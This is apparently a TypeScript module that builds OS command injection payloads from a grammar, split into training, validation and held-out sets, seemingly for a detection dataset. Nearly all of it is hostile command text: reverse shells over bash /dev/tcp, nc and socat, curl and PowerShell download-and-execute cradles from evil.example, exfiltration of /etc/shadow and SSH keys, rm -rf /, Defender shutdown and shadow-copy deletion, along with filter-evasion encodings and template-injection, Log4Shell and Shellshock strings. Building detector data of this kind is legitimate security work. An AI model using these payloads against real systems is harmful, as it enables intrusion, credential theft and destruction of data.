/**
 * OS command injection payloads from a grammar written for Helios: an optional value the
 * application expected, a separator or substitution (; | || & && newline, $(), backticks), a
 * command for a Unix shell, Windows cmd or PowerShell (a command name with arguments of its own
 * kind), and optional evasions ($IFS, quotes inside words, globbing, brace expansion, carets).
 * Held-out branches are separators, commands and evasions kept for validation and test.
 */
import type { Branches, Chooser } from "./grammar";

const VALUES = [
  "",
  "",
  "",
  "127.0.0.1",
  "8.8.8.8",
  "10.0.0.5",
  "localhost",
  "file.txt",
  "1",
  "42",
  "test",
  "abc",
  "'",
  '"',
  "x.jpg",
  "google.com",
  "example.org",
  "a",
  "report.pdf",
  "admin",
  "en",
];
const SEPARATORS: Branches<string> = {
  train: [
    ";",
    "; ",
    " ;",
    "|",
    " | ",
    "||",
    " || ",
    "&",
    " & ",
    "&&",
    " && ",
    "\n",
    "%0a",
    "%3b",
    "%7c",
    "\r\n",
    "%26%26",
    ";;",
    "%26",
    "%7c%7c",
    "\r",
    "%0d",
    "%3B",
    "%7C",
    "|&",
  ],
  valid: ["%0a%0d", "\n;", "%3b%20", "%0A%0A"],
  held: ["%0d%0a", "\n\n", "%0A", "&;"],
};

/** Unix command names whose arguments are files: `${name} ${file}`. */
const UNIX_FILE_READERS: Branches<string> = {
  train: [
    "cat",
    "head",
    "tail",
    "more",
    "less",
    "tac",
    "nl",
    "strings",
    "od -c",
    "xxd",
    "hexdump -C",
    "sort",
    "uniq",
    "grep root",
    "grep -r password",
    "wc -l",
    "cut -d: -f1",
    "sed -n 1p",
    "diff",
    "cp",
    "ls -l",
    "stat",
    "file",
    "tail -f",
    "tar czf /tmp/x.tgz",
    "zip -r /tmp/x.zip",
    "vi",
    "nano",
    "chmod 777",
    "chmod +x",
    "chown root",
    "rm -f",
    "shred -u",
    "curl -F f=@",
    "source",
  ],
  valid: ["rev", "paste", "fold -w 80", "column -t"],
  held: [],
};
const UNIX_FILES: Branches<string> = {
  train: [
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
    "/etc/group",
    "/etc/issue",
    "/etc/hostname",
    "/proc/self/environ",
    "/proc/cpuinfo",
    "/var/log/auth.log",
    "/var/log/syslog",
    "~/.ssh/id_rsa",
    "/root/.bash_history",
    "/home/user/.ssh/authorized_keys",
    ".env",
    "config.php",
    "/var/www/html/index.php",
    "/tmp/x",
    "/etc/crontab",
    "wp-config.php",
    "/etc/resolv.conf",
  ],
  valid: ["/etc/os-release", "/proc/net/tcp", "~/.aws/credentials"],
  held: [],
};
/** Whole Unix commands: name and arguments. */
const UNIX_COMMANDS: Branches<(c: Chooser) => string> = {
  train: [
    (c) => `${c.branch(UNIX_FILE_READERS)} ${c.branch(UNIX_FILES)}`,
    () => "id",
    () => "whoami",
    (c) => c.pick(["uname -a", "uname -r", "uname"]),
    (c) => c.pick(["ls", "ls -la", "ls -al /", "ls /tmp", "ls -la ~", "ls ../"]),
    (c) => `ping -c ${c.int(1, 20)} ${c.pick(["127.0.0.1", "10.0.0.1", "evil.example", "localhost"])}`,
    (c) => `sleep ${c.int(1, 30)}`,
    (c) =>
      `nc ${c.pick(["-e /bin/sh", "-e /bin/bash", "-lvp", ""])} 10.0.0.${c.int(1, 254)} ${c.int(80, 9999)}`,
    (c) => `ncat ${c.pick(["--exec", "-e"])} /bin/bash ${c.int(11, 223)}.0.0.1 ${c.int(80, 9999)}`,
    (c) =>
      `wget ${c.pick(["http://evil.example/sh", "-q -O- http://10.0.0.1/x", "http://x.example/a.sh -O /tmp/a"])}`,
    (c) =>
      `curl ${c.pick(["http://evil.example/x.sh | sh", "-s http://10.0.0.1/a | bash", "-o /tmp/x http://x.example/x", "http://evil.example/?d=$(whoami)"])}`,
    (c) => `bash -i >& /dev/tcp/10.0.0.${c.int(1, 254)}/${c.int(80, 9999)} 0>&1`,
    (c) => `bash -c '${c.pick(["id", "whoami", "cat /etc/passwd", "sleep 5"])}'`,
    (c) => `sh -c ${c.pick(["id", "'ls -la'", '"uname -a"'])}`,
    (c) => `${c.pick(["zsh", "dash", "ksh", "csh", "tcsh", "/bin/bash", "/bin/sh", "/usr/bin/env sh"])}`,
    (c) => `rm -rf ${c.pick(["/", "/*", "/tmp/*", "~", "/var/www"])}`,
    (c) => `echo ${c.pick(["vulnerable", "pwned", "$PATH", "$USER", "$(id)", "`whoami`", "hello > /tmp/x"])}`,
    (c) => `printf ${c.pick(["'%s' test", "pwned", "'\\x41'"])}`,
    () => "/usr/bin/id",
    (c) => c.pick(["ifconfig", "ifconfig -a", "ip addr", "ip a", "ip route"]),
    (c) => c.pick(["netstat -an", "netstat -tulpn", "ss -tln", "lsof -i", "arp -a"]),
    (c) => c.pick(["ps aux", "ps -ef", "top -n 1", "pstree"]),
    (c) => c.pick(["env", "printenv", "set", "export"]),
    (c) =>
      `python${c.pick(["", "3"])} -c '${c.pick(['import os;os.system("id")', 'import pty;pty.spawn("/bin/sh")', "print(1)", '__import__("os").popen("id").read()'])}'`,
    (c) => `perl -e '${c.pick(["print 1", 'system("id")', 'exec "/bin/sh"'])}'`,
    (c) => `ruby -e '${c.pick(['system("id")', "puts `id`", 'exec "/bin/sh"'])}'`,
    (c) => `node -e '${c.pick(['require("child_process").execSync("id")', "process.exit(1)"])}'`,
    (c) => `lua -e '${c.pick(['os.execute("id")', "print(1)"])}'`,
    (c) => `nslookup ${c.pick(["evil.example", "$(whoami).x.example", "10.0.0.1"])}`,
    (c) => `host ${c.pick(["evil.example", "`id`.x.example"])}`,
    (c) => `find / ${c.pick(["-perm -4000", "-name '*.conf'", "-writable", "-type f -name id_rsa"])}`,
    (c) => `busybox ${c.pick(["nc 10.0.0.1 1234 -e sh", "telnetd -l /bin/sh", "wget http://x.example/a"])}`,
    (c) => `telnet 10.0.0.${c.int(1, 254)} ${c.int(23, 9999)}`,
    (c) => `ssh ${c.pick(["root@10.0.0.1", "-R 4444:localhost:22 x@evil.example"])}`,
    (c) => `scp ${c.pick(["/etc/passwd", "~/.ssh/id_rsa"])} x@evil.example:/tmp/`,
    (c) => `touch /tmp/${c.pick(["pwned", "x", "test"])}`,
    (c) => `kill -9 ${c.int(1, 9999)}`,
    (c) => c.pick(["killall -9 node", "pkill -f java", "pkill sshd"]),
    (c) => c.pick(["crontab -l", "crontab -r", "(crontab -l; echo '* * * * * /tmp/x') | crontab -"]),
    (c) => c.pick(["sudo -l", "sudo su", "sudo -i", "su root"]),
    (c) => c.pick(["useradd -m hacker", "passwd root", "usermod -aG sudo x"]),
    (c) => c.pick(["mkfifo /tmp/f", "mknod /tmp/p p"]),
    (c) => c.pick(["hostname", "pwd", "who", "w", "last", "uptime", "df -h", "free -m", "dmesg", "mount"]),
    (c) => c.pick(["socat tcp:10.0.0.1:4444 exec:sh", "socat - TCP4:evil.example:80"]),
    (c) => c.pick(["tftp -i 10.0.0.1 get x", "ftp -n evil.example"]),
    (c) => c.pick(["openssl s_client -connect evil.example:443", "openssl passwd -1 x"]),
    (c) => `dd if=${c.pick(["/dev/zero", "/dev/sda", "/etc/passwd"])} of=/tmp/x`,
    (c) =>
      `tar ${c.pick(["-cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=id", "xf /tmp/x.tar"])}`,
    (c) => c.pick(["gcc /tmp/x.c -o /tmp/x", "make -C /tmp", "chmod +x /tmp/x && /tmp/x"]),
    (c) => c.pick(["apt-get install nmap", "yum install -y nc", "pip install pwn", "npm i -g x"]),
    (c) => c.pick(["systemctl stop firewalld", "service ssh start", "iptables -F"]),
    (c) => c.pick(["traceroute 10.0.0.1", "ping6 ::1", "route -n"]),
    (c) => `timeout ${c.int(1, 9)} ${c.pick(["bash", "sleep 10", "nc 10.0.0.1 80"])}`,
    (c) => `nohup ${c.pick(["/tmp/x", "sh -i", "nc -lvp 4444"])} &`,
    (c) => `xargs ${c.pick(["-I{} sh -c {}", "rm -rf", "cat"])}`,
    (c) => `${c.pick(["which", "whereis", "command -v"])} ${c.pick(["nc", "python", "gcc", "wget"])}`,
  ],
  valid: [
    (c) => `nmap ${c.pick(["-sV 10.0.0.1", "-p- localhost", "-sn 10.0.0.0/24"])}`,
    (c) => c.pick(["lsblk", "lscpu", "lsmod", "id -u", "groups"]),
    (c) => `tee ${c.pick(["/tmp/x", "-a /etc/crontab", "/var/www/html/s.php"])}`,
    (c) => `curl -d @${c.branch(UNIX_FILES)} http://evil.example/`,
  ],
  held: [
    () => "php -r 'system(\"id\");'",
    () => "awk 'BEGIN{system(\"id\")}'",
    () => "dig evil.example",
    () => "xterm -display 10.0.0.1:1",
    () => "getent passwd",
    () => "base64 /etc/passwd",
  ],
};
/** Windows cmd.exe commands. */
const WINDOWS_COMMANDS: Branches<(c: Chooser) => string> = {
  train: [
    (c) => c.pick(["dir", "dir c:\\", "dir /s /b c:\\users", "dir+c:\\", "dir %USERPROFILE%"]),
    (c) =>
      `type ${c.pick(["c:\\windows\\win.ini", "%SYSTEMROOT%\\win.ini", "c:\\boot.ini", "c:\\inetpub\\wwwroot\\web.config", "..\\..\\web.config"])}`,
    (c) =>
      c.pick([
        "net user",
        "net user hacker P@ss /add",
        "net localgroup administrators",
        "net localgroup administrators x /add",
        "net view",
        "net share",
        "net session",
      ]),
    () => "whoami",
    (c) => c.pick(["whoami /priv", "whoami /all", "whoami /groups"]),
    (c) => c.pick(["ipconfig", "ipconfig /all", "ipconfig /displaydns"]),
    (c) =>
      c.pick([
        "systeminfo",
        "hostname",
        "ver",
        "set",
        "path",
        "echo %PATH%",
        "echo %USERNAME%",
        "echo %COMPUTERNAME%",
      ]),
    (c) => c.pick(["tasklist", "tasklist /v", "taskkill /f /im defender.exe", "taskkill /pid 4 /f"]),
    (c) =>
      `cmd${c.pick(["", ".exe"])} /c ${c.pick(["whoami", "dir", "type c:\\windows\\win.ini", "net user", "calc", "ping 127.0.0.1"])}`,
    (c) => `cmd /k ${c.pick(["whoami", "dir"])}`,
    (c) => `%COMSPEC% /c ${c.pick(["whoami", "dir", "set"])}`,
    (c) => `ping -n ${c.int(1, 20)} 127.0.0.1`,
    (c) => `timeout /t ${c.int(1, 30)}`,
    (c) =>
      `certutil -urlcache -split -f http://evil.example/${c.pick(["a.exe", "x.ps1", "nc.exe"])} ${c.pick(["a.exe", "c:\\temp\\x.exe"])}`,
    (c) => `del /f /q ${c.pick(["c:\\*.*", "c:\\windows\\temp\\*", "%TEMP%\\*"])}`,
    (c) =>
      c.pick([
        "copy con x.bat",
        "copy \\\\10.0.0.1\\share\\nc.exe c:\\temp\\",
        "xcopy c:\\users \\\\evil\\s /s",
      ]),
    (c) =>
      c.pick([
        "netstat -ano",
        "arp -a",
        "route print",
        "netsh firewall set opmode disable",
        "netsh advfirewall set allprofiles state off",
      ]),
    (c) => c.pick(["sc query", "sc stop WinDefend", "sc create x binpath= c:\\temp\\x.exe"]),
    (c) => c.pick(["schtasks /create /tn x /tr c:\\temp\\x.exe /sc minute", "schtasks /query"]),
    (c) => c.pick(["findstr /si password *.xml", "findstr /s /i pass *.config"]),
    (c) =>
      c.pick([
        'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication"',
        "regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll",
      ]),
    (c) =>
      c.pick([
        "mshta http://evil.example/x.hta",
        'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")',
      ]),
    (c) => c.pick(["start calc.exe", "start /b c:\\temp\\x.exe", "calc", "notepad c:\\windows\\win.ini"]),
    (c) =>
      c.pick([
        "attrib +h c:\\temp\\x.exe",
        "icacls c:\\windows\\temp /grant everyone:F",
        "cacls c:\\ /e /g everyone:f",
      ]),
    (c) =>
      c.pick([
        "vssadmin delete shadows /all /quiet",
        "wevtutil cl security",
        "bcdedit /set recoveryenabled no",
      ]),
    (c) => c.pick(["cscript //nologo c:\\temp\\x.vbs", "wscript c:\\temp\\x.js"]),
  ],
  valid: [
    (c) => c.pick(["query user", "qwinsta", "klist", "driverquery"]),
    (c) =>
      c.pick([
        "fsutil fsinfo drives",
        "msiexec /q /i http://evil.example/x.msi",
        'forfiles /p c:\\windows /m *.exe /c "cmd /c echo @file"',
      ]),
  ],
  held: [
    () => "wmic process list",
    () => "reg query HKLM\\SAM",
    () => "bitsadmin /transfer x http://evil.example/a.exe c:\\a.exe",
    () => "nltest /dclist:",
  ],
};
/** PowerShell: cmdlets, download cradles, encoded commands. */
const POWERSHELL_COMMANDS: Branches<(c: Chooser) => string> = {
  train: [
    (c) =>
      `powershell${c.pick(["", ".exe"])} ${c.pick(["-enc", "-e", "-EncodedCommand", "-nop -w hidden -enc"])} ${c.pick(["SQBFAFgA", "JABjAD0A", "aQBlAHgA", "SQBuAHYAbwBrAGUA"])}`,
    (c) =>
      `powershell -c "iex(new-object net.webclient).downloadstring('http://${c.pick(["evil.example", "10.0.0.1"])}/a')"`,
    (c) =>
      `powershell -nop -ep bypass -c ${c.pick(["whoami", "Get-Process", '"IEX (iwr http://evil.example/x.ps1)"'])}`,
    (c) =>
      `IEX (New-Object Net.WebClient).DownloadString('http://evil.example/${c.pick(["a.ps1", "x", "p"])}')`,
    (c) =>
      `Invoke-WebRequest -Uri http://evil.example/${c.pick(["a.exe", "x.ps1"])} -OutFile ${c.pick(["a.exe", "$env:TEMP\\x.ps1"])}`,
    (c) =>
      `iwr http://evil.example/${c.pick(["x", "a.ps1"])} ${c.pick(["| iex", "-useb | iex", "-OutFile x.exe"])}`,
    (c) => `Invoke-Expression ${c.pick(["'whoami'", "(Get-Content x.txt)", "$payload"])}`,
    (c) => `Get-ChildItem ${c.pick(["C:\\", "-Recurse C:\\Users", "env:", "Cert:\\"])}`,
    (c) =>
      c.pick([
        "Get-Process",
        "Get-Service",
        "Get-LocalUser",
        "Get-NetTCPConnection",
        "Get-WmiObject Win32_Process",
        "Get-CimInstance Win32_OperatingSystem",
      ]),
    (c) => `Get-Content ${c.pick(["C:\\Windows\\win.ini", "$env:USERPROFILE\\.ssh\\id_rsa", "web.config"])}`,
    (c) =>
      `Start-Process ${c.pick(["calc.exe", "cmd.exe -ArgumentList '/c whoami'", "powershell -Verb runAs"])}`,
    (c) =>
      c.pick([
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        "Set-ExecutionPolicy Bypass -Scope Process -Force",
        "Stop-Service WinDefend",
      ]),
    (c) => `[System.Diagnostics.Process]::Start('${c.pick(["cmd", "calc", "powershell"])}')`,
    (c) => `Remove-Item ${c.pick(["-Recurse -Force C:\\*", "C:\\Windows\\Temp\\*"])}`,
    (c) => `Invoke-Command -ScriptBlock {${c.pick(["whoami", "Get-Process", "hostname"])}}`,
    (c) => `$c=New-Object System.Net.Sockets.TCPClient('10.0.0.${c.int(1, 254)}',${c.int(80, 9999)})`,
    (c) => `pwsh -c ${c.pick(["id", "whoami", "'Get-ChildItem /'"])}`,
  ],
  valid: [
    (c) => c.pick(["Get-Acl C:\\", "Test-NetConnection 10.0.0.1 -Port 445", "Resolve-DnsName evil.example"]),
    (c) => `Add-MpPreference -ExclusionPath ${c.pick(["C:\\", "$env:TEMP"])}`,
  ],
  held: [],
};

function command(c: Chooser): string {
  const shell = c.random.nextDouble();
  if (shell < 0.6) return c.branch(UNIX_COMMANDS)(c);
  if (shell < 0.85) return c.branch(WINDOWS_COMMANDS)(c);
  return c.branch(POWERSHELL_COMMANDS)(c);
}

/** Hides a Unix command's words from naive filters. */
const EVASIONS: Branches<(cmd: string) => string> = {
  train: [
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the literal shell text ${IFS}
    (cmd) => cmd.replaceAll(" ", "${IFS}"),
    (cmd) => cmd.replaceAll(" ", "$IFS$9"),
    (cmd) => cmd.replaceAll(" ", "$IFS"),
    (cmd) => cmd.replace(/^(\w)(\w+)/, "$1'$2'").replace(/^(\w)'(\w)/, "$1'$2"),
    (cmd) => cmd.replace(/^(\w)(\w)/, "$1\\$2"),
    (cmd) => cmd.replace(/^(\w)(\w)/, '$1""$2'),
    (cmd) => cmd.replace(/^(\w)(\w)/, "$1''$2"),
    (cmd) => `{${cmd.split(" ").join(",")}}`,
    (cmd) => cmd.replace("/etc/passwd", "/e??/p?ss??").replace("/bin/", "/???/"),
    (cmd) => cmd.replace("/etc/passwd", "/e*c/pa*wd").replace("/bin/", "/b*n/"),
    (cmd) => cmd.replaceAll(" ", "%20"),
    (cmd) => cmd.replaceAll(" ", "+"),
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the literal shell text ${HOME:0:1}
    (cmd) => cmd.replaceAll("/", "${HOME:0:1}"),
    (cmd) => `$(printf '${[...cmd].map((ch) => `\\${ch.charCodeAt(0).toString(8)}`).join("")}')`,
    (cmd) => `$'${[...cmd].map((ch) => `\\x${ch.charCodeAt(0).toString(16)}`).join("")}'`,
    (cmd) => `$(rev<<<'${[...cmd].reverse().join("")}')`,
    (cmd) => `a=${cmd.split(" ")[0]};$a ${cmd.split(" ").slice(1).join(" ")}`,
  ],
  valid: [
    (cmd) => cmd.replaceAll(" ", "%09"),
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the literal shell text ${PATH:0:1}
    (cmd) => cmd.replaceAll("/", "${PATH:0:1}"),
    (cmd) => cmd.replace(/^(\w)(\w)/, "$1$()$2"),
  ],
  held: [
    (cmd) => cmd.replaceAll(" ", "<"),
    (cmd) => cmd.replaceAll(" ", "\t"),
    (cmd) => cmd.replace(/^(\w+)/, "$1$@"),
  ],
};

/** Hides a Windows command's words: carets, quotes, environment-variable substrings. */
const WINDOWS_EVASIONS: Branches<(cmd: string) => string> = {
  train: [
    (cmd) => cmd.replace(/^(\w)(\w)(\w)/, "$1^$2^$3"),
    (cmd) => cmd.replace(/^(\w)(\w)/, '$1""$2'),
    (cmd) => cmd.replaceAll(" ", ","),
    (cmd) => `cmd /c "${cmd}"`,
    (cmd) => cmd.replace(/^(\w+)/, "$1.exe"),
  ],
  valid: [(cmd) => cmd.replace(/^c/, "%COMSPEC:~-7,1%"), (cmd) => cmd.replaceAll(" ", ";")],
  held: [],
};

/** The families of the grammar. */
const FAMILIES: Readonly<Record<string, (c: Chooser) => string>> = {
  separated: (c) => {
    const tail = c.chance(0.3) ? c.branch(SEPARATORS) : c.pick(["", "", "#", " #", "&", ";", "|", "'", '"']);
    return `${c.pick(VALUES)}${c.branch(SEPARATORS)}${command(c)}${tail}`;
  },
  substitution: (c) =>
    c.pick([
      `${c.pick(VALUES)}$(${command(c)})`,
      `${c.pick(VALUES)}\`${command(c)}\``,
      `$(${command(c)})`,
      `\`${command(c)}\``,
      `${c.pick(VALUES)};echo $(${command(c)})`,
      `"; $(${command(c)}) #`,
      `${c.pick(VALUES)}|\`${command(c)}\``,
      `${c.pick(VALUES)}'$(${command(c)})'`,
      `${c.pick(VALUES)}"\`${command(c)}\`"`,
      `<(${command(c)})`,
    ]),
  evasion: (c) => `${c.pick(VALUES)}${c.branch(SEPARATORS)}${c.branch(EVASIONS)(c.branch(UNIX_COMMANDS)(c))}`,
  windows: (c) => {
    const cmd = c.chance(0.7) ? c.branch(WINDOWS_COMMANDS)(c) : c.branch(POWERSHELL_COMMANDS)(c);
    const body = c.chance(0.4) ? c.branch(WINDOWS_EVASIONS)(cmd) : cmd;
    return `${c.pick(VALUES)}${c.pick(["&", "&&", "|", "||", "%26", "\r\n", ";", "%0a", " & ", "^&"])}${body}`;
  },
  bareCommand: (c) => {
    // A lone word like "id" or "dir" is a normal form value; a bare command needs a path or option.
    let cmd = command(c);
    while (!/[/\\\-|>$]/.test(cmd)) cmd = command(c);
    return c.chance(0.5) ? cmd : `${cmd}${c.pick([";", "|", "&", " #", "%00"])}`;
  },
  urlEncoded: (c) => {
    const raw = `${c.pick(VALUES)}${c.pick([";", "|", "&&", "\n", "`"])}${command(c)}`;
    return c.chance(0.5) ? encodeURIComponent(raw) : encodeURIComponent(raw).replaceAll("%20", "+");
  },
  ssiAndCode: (c) =>
    c.pick([
      `<!--#exec cmd="${c.branch(UNIX_COMMANDS)(c)}"-->`,
      `<?php system('${c.branch(UNIX_COMMANDS)(c)}'); ?>`,
      `<?php echo shell_exec($_GET['${c.pick(["cmd", "c", "x"])}']); ?>`,
      `<?=\`${c.branch(UNIX_COMMANDS)(c)}\`?>`,
      `'; system('${c.branch(UNIX_COMMANDS)(c)}'); //`,
      `"; passthru('${c.branch(UNIX_COMMANDS)(c)}'); //`,
      `{{config.__class__.__init__.__globals__['os'].popen('${c.branch(UNIX_COMMANDS)(c)}').read()}}`,
      `{{''.__class__.__mro__[1].__subclasses__()}}`,
      `__import__('os').system('${c.branch(UNIX_COMMANDS)(c)}')`,
      `os.popen('${c.branch(UNIX_COMMANDS)(c)}').read()`,
      `subprocess.check_output('${c.branch(UNIX_COMMANDS)(c)}', shell=True)`,
      `\${jndi:${c.pick(["ldap", "rmi", "dns"])}://evil.example/${c.pick(["a", "x", "exploit"])}}`,
      `() { :; }; ${c.branch(UNIX_COMMANDS)(c)}`,
      `() { :;}; /bin/bash -c '${c.branch(UNIX_COMMANDS)(c)}'`,
      `require('child_process').exec${c.pick(["", "Sync"])}('${c.branch(UNIX_COMMANDS)(c)}')`,
      `Runtime.getRuntime().exec("${c.branch(UNIX_COMMANDS)(c)}")`,
      `%x(${c.branch(UNIX_COMMANDS)(c)})`,
      `system("${c.branch(UNIX_COMMANDS)(c)}")`,
      `exec("${c.branch(UNIX_COMMANDS)(c)}")`,
      `\${T(java.lang.Runtime).getRuntime().exec('${c.pick(["id", "calc"])}')}`,
      `<%= \`${c.pick(["id", "ls"])}\` %>`,
      `#{%x(${c.pick(["id", "whoami"])})}`,
    ]),
};

/** The command injection families, by name. */
export const CMDI_FAMILIES = Object.keys(FAMILIES);

/** One command injection payload of the given family. */
export function cmdiPayload(c: Chooser, family: string): string {
  return FAMILIES[family]!(c);
}
